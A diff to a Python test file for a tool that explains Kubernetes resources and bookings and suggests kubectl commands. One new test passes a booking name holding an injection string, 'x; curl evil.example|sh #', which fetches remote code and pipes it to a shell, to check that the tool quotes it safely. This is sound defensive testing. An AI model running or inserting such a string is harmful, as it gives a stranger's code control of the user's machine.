@@ -178,7 +178,7 @@ def test_suspended_says_who_may_change_it() -> None:
     explanation = explain_resource(view, viewer())
     assert lines(explanation)[2:] == [
         f'but Ready=False/Suspended since 13:00:00: "{message}"',
-        "next ends 17:00",
+        "next nothing starts or stops while spec.suspend is true",
         """do kubectl patch resource analytics --type merge -p '{"spec":{"suspend":false}}'""",
     ]
     permission = explanation.do[0].permission
@@ -253,6 +253,13 @@ def test_commands_name_another_namespace() -> None:
     assert explain_resource(view, elsewhere).do[0].text.endswith("--duration 2h")
     moved = type(elsewhere)(elsewhere.user, elsewhere.now, elsewhere.zone, "default")
     assert explain_resource(view, moved).do[0].text.endswith("--duration 2h -n team-a")
+
+
+def test_a_hostile_name_is_quoted_in_commands() -> None:
+    explained = why_booking(
+        "morning", booking_body("morning", "x; curl evil.example|sh #", "ada", "09:00", "12:00")
+    )
+    assert explained[-1] == "do kubectl booking book 'x; curl evil.example|sh #' --duration 1h"
 
 
 def test_many_bookings_are_summarized() -> None:
